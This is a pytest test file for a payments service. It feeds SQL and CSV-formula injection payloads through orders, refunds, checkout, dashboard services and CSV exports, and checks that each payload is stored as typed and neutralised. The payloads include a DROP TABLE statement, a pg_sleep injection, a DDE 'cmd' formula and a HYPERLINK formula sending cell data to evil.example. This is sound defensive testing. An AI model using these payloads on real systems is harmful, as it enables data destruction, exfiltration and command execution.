"""SQL and formula injection in every text field that reaches a query or a CSV, on SQLite and
PostgreSQL: each payload goes through the API (order, refund), PortOne's checkout (the buyer's own
fields), the dashboard's services (search, saved view, refund desk, sign-in, user admin, alert
notes), then out through the CSV exports of an admin and of a viewer. It must come back stored as
typed (trimmed where the form trims), do nothing as SQL, and be neutralised in every CSV cell."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta

import httpx
import pytest
from sqlalchemy import func, inspect, select

from services.alerts import desk as alert_desk
from services.auth import accounts as users
from services.auth.access import Actor
from services.core import masking
from services.core.errors import InvalidRequest, NotFound
from services.core.kst import kst_today
from services.core.models import Alert, Base, Order, Payment, Refund, Role, SavedView, User
from services.payments import saved_views
from services.payments.search import PaymentFilters, search_payments
from services.refunds import bulk
from services.refunds import desk as refund_desk
from services.refunds.outcomes import RefundOutcome
from services.reporting import export_writer, exports
from services.runtime import Runtime
from tests.factories import SandboxControl, auth_headers, new_order, wait_for_webhooks

PAYLOADS = (
    "' OR 1=1 --",
    "x'); DROP TABLE payments; --",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-=1+1",
    "\t=1+1",
    '100%_off \\ "q", c',
    "김'; SELECT pg_sleep(5); --",
)
ADMIN, OPERATOR, VIEWER = Actor("admin", Role.ADMIN), Actor("operator", Role.OPERATOR), Actor("viewer", Role.VIEWER)


def _email(payload: str) -> str:
    """The payload as an e-mail local part (no spaces or @, as the order form insists)."""
    return "".join(ch for ch in payload if not ch.isspace() and ch != "@")[:40] + "@example.com"


def _matching(text: str, buyers: dict[str, dict[str, str]]) -> set[str]:
    """What the search box promises (services.payments.search): with an @ the e-mail by prefix,
    otherwise the name or the e-mail by prefix (no payload here looks like a phone number)."""
    found = set()
    for imp_uid, buyer in buyers.items():
        by_email = buyer["email"].startswith(text) or buyer["email"].startswith(text.lower())
        if by_email or ("@" not in text and buyer["name"].startswith(text)):
            found.add(imp_uid)
    return found


def _export(runtime: Runtime, actor: Actor, kind: str, *, whole: bool) -> list[dict[str, str]]:
    day = kst_today()
    request = exports.prepare(
        actor=actor,
        kind=kind,
        filters=exports.ExportFilters(start=day - timedelta(days=1), end=day),
        include_personal_data=whole,
        language="en",
    )
    text = exports.build_file(runtime, request).data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(export_writer.FORMULA_TRIGGERS), (kind, cell)
    return rows


def _refused_or_stored(call: Callable[[], object]) -> None:
    try:
        call()
    except (InvalidRequest, NotFound, users.LoginRefused):
        pass


@pytest.mark.reliability(
    area="hostile input",
    case="SQL and formula injection in every text field (API, checkout, dashboard services)",
    outcome="stored as typed, no SQL effect, every CSV cell neutralised (admin and viewer exports)",
)
def test_injection_in_every_text_field(api: httpx.Client, runtime: Runtime, sandbox: SandboxControl) -> None:
    for role in ("admin", "operator", "viewer"):
        users.create_user(runtime, username=role, password=f"{role}-password-1", role=role, actor=None)
    buyers: dict[str, dict[str, str]] = {}  # imp_uid -> the buyer's fields as PortOne relays them
    for number, payload in enumerate(PAYLOADS):
        trimmed = payload.strip()
        order = new_order(api, customer_name=payload, customer_email=_email(payload))
        imp_uid = sandbox.checkout(
            order["merchant_uid"], order["amount"], buyer_name=payload, buyer_email=_email(payload), buyer_tel=payload
        )["imp_uid"]
        body = {"imp_uid": imp_uid, "merchant_uid": order["merchant_uid"]}
        assert api.post("/api/payments/complete", json=body).status_code == 200
        refund = api.post(
            f"/api/payments/{imp_uid}/refunds", json={"amount": "1000", "reason": payload}, headers=auth_headers()
        )
        assert refund.status_code == 201, refund.text
        desk = refund_desk.request_refund(
            runtime, actor=OPERATOR, imp_uid=imp_uid, amount="500", reason=payload, idempotency_key=f"desk-{number}"
        )
        assert desk.outcome == RefundOutcome.REFUNDED, desk
        filters = PaymentFilters.default(query=payload)
        saved_views.save_view(runtime, actor=VIEWER, name=payload, filters=filters)
        users.create_user(
            runtime,
            username=f"user{number}",
            password="long-enough-password",
            role="viewer",
            display_name=payload,
            actor=ADMIN,
        )
        _refused_or_stored(lambda: users.authenticate(runtime, username=payload, password=payload))  # noqa: B023
        _refused_or_stored(lambda: refund_desk.refund_quote(runtime, actor=OPERATOR, identifier=payload))  # noqa: B023
        relayed = sandbox.payment(imp_uid)
        buyers[imp_uid] = {key: relayed[f"buyer_{key}"] for key in ("name", "email", "tel")}
        assert buyers[imp_uid]["name"].strip() == trimmed  # PortOne has what the buyer typed
        found = {row.imp_uid for row in search_payments(runtime, actor=VIEWER, filters=filters, limit=500).rows}
        assert found == _matching(trimmed, buyers), payload

        with runtime.db.read() as session:
            stored = session.scalar(select(Payment).where(Payment.imp_uid == imp_uid))
            assert stored is not None
            buyer = buyers[imp_uid]
            assert (stored.buyer_name, stored.buyer_tel) == (buyer["name"], buyer["tel"][:40])  # its column's length
            order_row = session.scalar(select(Order).where(Order.merchant_uid == order["merchant_uid"]))
            assert order_row is not None and order_row.customer_name == trimmed
            assert [r.reason for r in stored.refunds] == [trimmed, trimmed]
            assert session.scalar(select(SavedView.name).where(SavedView.name == trimmed)) == trimmed
            assert session.scalar(select(User.display_name).where(User.username == f"user{number}")) == payload

    # The bulk refund upload: a CSV whose identifiers and reasons are the payloads (and the ids of
    # two real payments, written with a payload reason): only those two are found.
    upload = io.StringIO()
    writer = csv.writer(upload)
    writer.writerow(["imp_uid", "reason"])
    writer.writerows([[payload, payload] for payload in PAYLOADS] + [[uid, PAYLOADS[1]] for uid in list(buyers)[:2]])
    rows = bulk.parse_bulk_csv(upload.getvalue().encode())
    preview = bulk.preview_bulk(runtime, actor=OPERATOR, rows=rows)
    assert {row.imp_uid for row in preview.rows if row.check != RefundOutcome.NOT_FOUND} == set(list(buyers)[:2])

    # Alert notes: a payment for an order we never made raises one; its notes are the payloads.
    stranger = sandbox.checkout("someone_elses_order_1", "50000")["imp_uid"]
    wait_for_webhooks(runtime, stranger)
    with runtime.db.read() as session:
        alert_id = session.scalar(select(Alert.id).where(Alert.imp_uid == stranger))
    assert alert_id is not None
    alert_desk.acknowledge(runtime, actor=OPERATOR, alert_id=alert_id, note=PAYLOADS[0])
    alert_desk.resolve(runtime, actor=OPERATOR, alert_id=alert_id, note=PAYLOADS[2])

    # Nothing happened as SQL: every table is there and holds what the flow wrote.
    tables = set(inspect(runtime.db.engine).get_table_names())
    assert set(Base.metadata.tables) <= tables
    with runtime.db.read() as session:
        assert session.scalar(select(func.count()).select_from(Payment)) == len(PAYLOADS) + 1
        assert session.scalar(select(func.count()).select_from(Refund)) == 2 * len(PAYLOADS)
        assert session.scalar(select(func.count()).select_from(User)) == 3 + len(PAYLOADS)

    # Out through the CSVs: the admin's whole, the viewer's masked; every cell neutralised.
    neutral = export_writer.neutralise
    admin_payments = {row["imp_uid"]: row for row in _export(runtime, ADMIN, "payments", whole=True)}
    viewer_payments = {row["imp_uid"]: row for row in _export(runtime, VIEWER, "payments", whole=False)}
    admin_refunds = _export(runtime, ADMIN, "refunds", whole=True)
    for imp_uid, buyer in buyers.items():
        name, email, tel = buyer["name"], buyer["email"], buyer["tel"][:40]
        row = admin_payments[imp_uid]
        assert (row["buyer_name"], row["buyer_email"], row["buyer_phone"]) == (
            neutral(name),
            neutral(email),
            neutral(tel),
        )
        masked = viewer_payments[imp_uid]
        assert masked["buyer_name"] == neutral(str(masking.mask_name(name)))
        assert masked["buyer_email"] == neutral(str(masking.mask_email(email)))
        assert masked["buyer_phone"] == neutral(str(masking.mask_phone(tel)))
        reasons = [r["reason"] for r in admin_refunds if r["imp_uid"] == imp_uid]
        assert reasons == [neutral(name.strip())] * 2  # the refund reasons were the same payload
    [alert_row] = [r for r in _export(runtime, ADMIN, "alerts", whole=True) if r["imp_uid"] == stranger]
    assert alert_row["resolution_note"] == neutral(PAYLOADS[2])


@pytest.mark.reliability(
    area="hostile input",
    case="buyer fields PortOne relays that a column cannot hold (NUL, too long, odd merchant_uid)",
    outcome="the payment is recorded on SQLite and PostgreSQL alike (200, alerted where due), never 5xx",
)
def test_buyer_text_no_column_can_hold(api: httpx.Client, runtime: Runtime, sandbox: SandboxControl) -> None:
    odd = "김\x00체카 " * 40  # NUL and 240 characters: PostgreSQL stores neither
    order = new_order(api)
    imp_uid = sandbox.checkout(
        order["merchant_uid"], order["amount"], buyer_name=odd, buyer_email=odd, buyer_tel=odd, name=odd
    )["imp_uid"]
    answer = api.post("/api/payments/complete", json={"imp_uid": imp_uid, "merchant_uid": order["merchant_uid"]})
    assert answer.status_code == 200, answer.text
    # Someone else's checkout (the browser chooses merchant_uid) with the same text: alerted.
    stranger = sandbox.checkout("x'--" * 30, "50000", buyer_name=odd)["imp_uid"]
    wait_for_webhooks(runtime, stranger)
    with runtime.db.read() as session:
        payment = session.scalar(select(Payment).where(Payment.imp_uid == imp_uid))
        assert payment is not None and payment.status == "paid" and payment.verified
        assert payment.buyer_name is not None and "\x00" not in payment.buyer_name
        assert payment.buyer_name.startswith("김\ufffd체카")
        assert payment.raw is not None and payment.raw["buyer_name"] == odd.strip()  # PortOne's text kept whole
        alert = session.scalar(select(Alert).where(Alert.imp_uid == stranger))
        assert alert is not None and alert.kind == "payment_without_order"
